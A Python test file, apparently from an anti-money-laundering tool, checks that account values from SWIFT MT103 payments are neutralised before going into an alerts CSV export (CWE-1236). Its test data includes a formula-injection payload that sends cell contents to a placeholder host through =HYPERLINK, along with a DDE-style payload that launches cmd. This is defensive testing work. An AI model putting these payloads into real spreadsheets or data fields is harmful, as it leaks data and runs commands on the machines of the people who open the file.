"""`jalur alerts export` writes a CSV for spreadsheets: a payer chooses his own account in an
MT103's 50K field, and an account such as `=HYPERLINK(…)` went into the export (and into the
explanation quoting it) raw, a formula that ran in Excel (CWE-1236). Text cells are now marked
as text with `'`, scores stay numbers, and `accounts flag` reads the export's accounts back
as they were paid."""

from __future__ import annotations

import csv
from pathlib import Path

from case_story import ok
from jalur.config import Settings
from jalur.monitoring import flagged
from jalur.store import Store

EVIL = '=HYPERLINK("http://x/?"&A1,"open")'
PAYER = "@SUM(1+1)*cmd|' /C calc'!A0"
#: Money round three accounts, one of them the payer's own choice: a cycle alert.
RING = [(EVIL, PAYER), ("456", "BUDI SANTOSO"), ("789", "SITI AMINAH")]


def _mt103(folder: Path) -> Path:
    messages = []
    for i, (account, name) in enumerate(RING):
        bene, bene_name = RING[(i + 1) % len(RING)]
        messages.append(
            f"{{1:F01BANKIDJAXXXX0000000000}}{{4:\n:20:REF{i}\n:23B:CRED\n"
            f":32A:24050{i + 1}USD2000,\n:50K:/{account}\n{name}\n:59:/{bene}\n{bene_name}\n"
            ":71A:SHA\n-}\n"
        )
    path = folder / "payments.fin"
    path.write_text("".join(messages), encoding="utf-8")
    return path


def _export(tmp_path: Path) -> tuple[Settings, Path]:
    settings = Settings.resolve(tmp_path / "home")
    ok(settings, "tx", "load", str(_mt103(tmp_path)), "--format", "mt103")
    ok(settings, "monitor", "run")
    out = tmp_path / "alerts.csv"
    ok(settings, "alerts", "export", "--out", str(out))
    return settings, out


def test_an_account_from_an_mt103_is_inert_in_the_alerts_csv(tmp_path: Path) -> None:
    _, out = _export(tmp_path)
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cycle = [r for r in rows if r["typology"] == "cycle"]
    assert {r["account"] for r in cycle} == {"'" + EVIL, "456", "789"}
    assert all(float(r["score"]) > 0 for r in rows)  # numbers stay numbers
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]


def test_accounts_flag_reads_the_exported_accounts_back_as_paid(tmp_path: Path) -> None:
    settings, out = _export(tmp_path)
    with out.open(encoding="utf-8", newline="") as handle:
        accounts = {row["account"] for row in csv.DictReader(handle)}
    assert "'" + EVIL in accounts  # as the analyst sees it
    ok(settings, "accounts", "flag", str(out), "--topic", "drug", "--reason", "BNN case 12/2025")
    with Store.open(settings) as store:
        assert EVIL in flagged(store, "drug")
